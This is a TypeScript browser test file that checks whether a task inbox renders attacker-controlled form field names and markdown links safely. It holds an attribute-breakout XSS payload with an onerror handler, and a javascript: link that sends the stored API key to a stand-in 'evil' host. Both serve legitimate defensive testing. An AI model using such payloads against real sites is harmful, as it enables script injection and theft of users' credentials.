import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testServer } from '../server/helpers.ts';

const CHROMIUM = process.env.HEED_CHROMIUM ?? '/usr/bin/chromium';
let browser: Browser;

beforeAll(async () => {
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] });
});
afterAll(async () => {
  await browser?.close();
});

async function openTask(url: string, taskId: string) {
  const page = await browser.newPage();
  await page.goto(`${url}/#/signin`);
  await page.fill('#principal', 'user:alice');
  await page.click('button[type=submit]');
  await page.waitForSelector('#inbox-title');
  await page.goto(`${url}/#/task/${encodeURIComponent(taskId)}`);
  await page.waitForSelector('#task');
  return page;
}

describe('the web inbox renders attacker-controlled task fields inertly', () => {
  it('escapes form property names (they go unescaped into id= and for=)', async () => {
    const s = await testServer();
    const evil = 'a"><img id="pwned" src="/nope" onerror="window.__xss=1"><i x="';
    const task = await s.heed.tasks.create({
      type: 'form',
      title: 'Fill this',
      assignees: ['user:alice'],
      form: { type: 'object', properties: { [evil]: { type: 'string' } } },
    });
    const page = await openTask(s.url, task.id);
    // Actual: inbox-script.ts fieldsFor builds id="field-<name>" without esc(): the <img> is injected.
    expect(await page.locator('#pwned').count()).toBe(0);
    await page.close();
  });

  it('does not render javascript: links from the markdown description', async () => {
    const s = await testServer();
    const task = await s.heed.tasks.create({
      type: 'approval',
      title: 'Approve?',
      description: 'See [the invoice](javascript:fetch("//evil/"+localStorage.getItem("heed.key")))',
      assignees: ['user:alice'],
    });
    const page = await openTask(s.url, task.id);
    // Actual: marked keeps the href; a click runs script with the stored API key in reach.
    expect(await page.locator('.md a[href^="javascript:" i]').count()).toBe(0);
    await page.close();
  });
});
